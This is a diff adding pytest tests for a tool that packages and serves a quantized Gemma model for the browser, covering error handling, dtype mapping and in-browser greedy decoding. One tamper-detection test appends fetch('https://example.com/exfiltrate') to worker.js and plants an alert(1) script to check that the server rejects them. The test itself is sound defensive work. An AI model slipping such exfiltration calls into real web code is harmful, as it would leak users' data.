@@ -174,3 +174,132 @@ def test_browser_applies_the_chat_template_for_it_models(browser, tiny, tiny_exp
                                          add_special_tokens=False)["input_ids"]
     assert load["chat"] and result["prompt_ids"] == want
     assert result["ids"] == python_greedy(src, want, [1, 5])
+
+
+# --- hostile input: one line, exit 2, nothing half-written ---------------------------------
+
+
+def _one_line_error(capsys, argv):
+    from gemma_edge.cli import main
+
+    capsys.readouterr()  # what fixtures printed (a first export's warnings) is not ours
+    try:
+        code = main(argv)
+    except SystemExit as exc:  # argparse's usage errors
+        code = exc.code
+    assert code == 2
+    err = capsys.readouterr().err
+    assert err.startswith("gemma-edge: error:") and err.count("\n") == 1, err
+    assert "Traceback" not in err
+    return err
+
+
+@pytest.mark.parametrize("recipe, dtype", [("fp32", "fp32"), (None, "fp32"), ("int8", "q8"),
+                                           ("int8-dynamic", "q8"), ("int4-all-calibrated", "q4")])
+def test_recipes_map_to_transformers_js_dtypes(recipe, dtype):
+    from exporter.web_package import DTYPE_SUFFIX, web_dtype
+
+    assert web_dtype(recipe) == dtype
+    assert DTYPE_SUFFIX[dtype] == {"fp32": "", "q8": "_quantized", "q4": "_q4"}[dtype]
+
+
+def test_a_recipe_with_no_browser_dtype_is_refused():
+    from exporter.web_package import web_dtype
+    from foundation.errors import GemmaEdgeError
+
+    with pytest.raises(GemmaEdgeError, match="no transformers.js dtype"):
+        web_dtype("fp16")
+
+
+def test_a_model_over_the_arraybuffer_limit_is_refused(tiny_export, tmp_path, monkeypatch, capsys):
+    import exporter.web_package as web
+
+    src, _ = tiny_export("onnx", "gemma")
+    monkeypatch.setattr(web, "MAX_MODEL_BYTES", 1000)
+    out = tmp_path / "big.web"
+    err = _one_line_error(capsys, ["package", str(src), "--as", "web", "--out", str(out)])
+    assert "2 GiB" in err and "int4" in err
+    assert not out.exists() and list(tmp_path.iterdir()) == []
+
+
+def test_missing_runtime_files_are_named(tiny_export, tmp_path, monkeypatch, capsys):
+    import exporter.web_package as web
+
+    src, _ = tiny_export("onnx", "gemma")
+    monkeypatch.setattr(web, "RUNTIME_FILES", ((tmp_path / "none", "transformers.min.js"),))
+    out = tmp_path / "x.web"
+    err = _one_line_error(capsys, ["package", str(src), "--as", "web", "--out", str(out)])
+    assert "npm install" in err and not out.exists()
+
+
+def test_serve_refuses_what_is_not_a_web_package(tiny_export, web_package, tmp_path, capsys):
+    from exporter.package import package
+
+    src, _ = tiny_export("onnx", "gemma")
+    bundle = tmp_path / "b.onnx-bundle"
+    package(src, bundle, "onnx-bundle")
+    (tmp_path / "file.txt").write_text("x")
+    assert "not a directory" in _one_line_error(capsys, ["serve", str(tmp_path / "none")])
+    assert "not a directory" in _one_line_error(capsys, ["serve", str(tmp_path / "file.txt")])
+    assert "not a package" in _one_line_error(capsys, ["serve", str(src)])
+    assert "not a web one" in _one_line_error(capsys, ["serve", str(bundle)])
+    good, _ = web_package("gemma")
+    for port in ("70000", "-1"):
+        assert "not a TCP port" in _one_line_error(capsys, ["serve", str(good), "--port", port])
+    assert "invalid int" in _one_line_error(capsys, ["serve", str(good), "--port", "http"])
+
+
+def test_serve_refuses_a_tampered_package_and_a_taken_port(web_package, tmp_path, capsys):
+    import socket
+
+    good, _ = web_package("gemma")
+    bad = tmp_path / "bad.web"
+    shutil.copytree(good, bad)
+    with open(bad / "worker.js", "a") as fh:
+        fh.write("\nfetch('https://example.com/exfiltrate');\n")
+    assert "does not match its manifest" in _one_line_error(capsys, ["serve", str(bad)])
+    (bad / "worker.js").unlink()
+    shutil.copy2(good / "worker.js", bad / "worker.js")
+    (bad / "extra.js").write_text("alert(1)")
+    assert "does not list" in _one_line_error(capsys, ["serve", str(bad)])
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = str(taken.getsockname()[1])
+        assert "already in use" in _one_line_error(capsys, ["serve", str(good), "--port", port])
+
+
+# --- the real Gemma 3 270M, quantized, in the browser ---------------------------------------
+
+
+@pytest.fixture(scope="module")
+def real_quantized(real_onnx):
+    """The 270M's int8 and int4 ONNX artifacts (test_real_quantize.py makes the same ones
+    in the same build directory first when the whole suite runs)."""
+    src = real_onnx[0]
+    want = {"int8": src.parent / "onnx-int8", "int4": src.parent / "onnx-int4-block32"}
+    if not all((d / "manifest.json").is_file() for d in want.values()):
+        proc = subprocess.run([sys.executable, "-m", "gemma_edge", "quantize", str(src),
+                               "--recipe", "int8,int4-block32", "--overwrite", "-q"],
+                              capture_output=True, text=True)
+        assert proc.returncode == 0, proc.stderr[-2000:]
+    return want
+
+
+@pytest.mark.real
+def test_real_270m_int8_and_int4_in_the_browser(browser, real_ref, real_quantized, tmp_path):
+    """32 greedy tokens of the real model in the page (WASM) equal onnxruntime's in Python
+    on the same artifact, for int8 (q8) and int4 (q4); the page stops at a stop token."""
+    from exporter.package import package
+
+    prompt = "The capital of France is"
+    for kind, artifact in real_quantized.items():
+        out = tmp_path / f"{kind}.web"
+        manifest = package(artifact, out, "web")
+        assert manifest["files"]["web.json"] and (out / "onnx").is_dir()
+        load, result, shown, _ = run_page(browser, out, prompt)
+        assert load["dtype"] == {"int8": "q8", "int4": "q4"}[kind]
+        assert result["prompt_ids"] == real_ref.encode(prompt)
+        stops = sorted(manifest["tokens"]["stop_tokens"].values())
+        assert result["ids"] == python_greedy(artifact, result["prompt_ids"], stops), kind
+        assert len(shown) > 20  # real text on the page
